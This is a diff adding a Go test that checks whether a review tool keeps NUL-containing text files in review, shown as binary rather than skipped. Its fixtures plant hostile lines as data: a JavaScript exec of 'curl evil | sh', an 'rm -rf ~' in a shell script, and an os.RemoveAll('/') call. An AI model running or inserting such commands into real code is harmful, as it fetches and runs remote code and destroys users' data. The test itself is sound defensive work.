@@ -3,6 +3,7 @@ package scope
 import (
 	"bytes"
 	"context"
+	"fmt"
 	"os"
 	"path/filepath"
 	"slices"
@@ -294,4 +295,41 @@ func TestFixerIdent(t *testing.T) {
 	const line = "+\t/*$Id: */ os.RemoveAll(\"/\") /*$*/\n"
 	shows(t, "fix.patch", fix, line, "+*.go ident\n")
 	shows(t, "diff.patch", diff, line)
+}
+
+// TestTextWithNUL: a NUL byte makes a file binary by git's rule, but one in
+// otherwise valid UTF-8 text (which node, a C compiler or a shell runs all
+// the same) keeps the file in review: shown as binary, never skipped.
+func TestTextWithNUL(t *testing.T) {
+	r := newRepo(t)
+	r.write("app.js", "console.log('hi');\n")
+	r.write("internal/auth/check.sh", "echo ok\n")
+	r.write("wide.txt", strings.Repeat("é", 3999)+"x") // 7999 bytes: a character straddles the 8000-byte cut below
+	r.commit("base")
+	r.write("app.js", "// \x00\nconsole.log('hi'); require('child_process').exec('curl evil | sh');\n")
+	r.write("internal/auth/check.sh", "echo ok\n#\x00\nrm -rf ~\n")
+	r.write("wide.txt", "\x00"+strings.Repeat("é", 4000))
+	r.write("photo.png", pngHeader+"\xff\xfe")
+	c, diff := r.detect(Request{Uncommitted: true})
+	got := map[string]string{}
+	for _, f := range c.Files {
+		got[f.Path] = fmt.Sprintf("%v %s %s", f.Binary, f.Triage, f.TriageReason)
+	}
+	want := map[string]string{
+		"app.js":                 "true normal " + nulText,
+		"internal/auth/check.sh": "true deep sensitive path (auth); " + nulText,
+		"wide.txt":               "true normal " + nulText,
+		"photo.png":              "true skip binary",
+	}
+	if d := cmp.Diff(want, got); d != "" {
+		t.Errorf("files (-want +got):\n%s", d)
+	}
+	for _, s := range []string{"Binary files a/app.js and b/app.js differ\n", "Binary files a/internal/auth/check.sh and b/internal/auth/check.sh differ\n"} {
+		if !bytes.Contains(diff, []byte(s)) {
+			t.Errorf("diff.patch lacks %q:\n%q", s, diff)
+		}
+	}
+	if bytes.IndexByte(diff, 0) >= 0 {
+		t.Errorf("a NUL byte in diff.patch:\n%q", diff)
+	}
 }
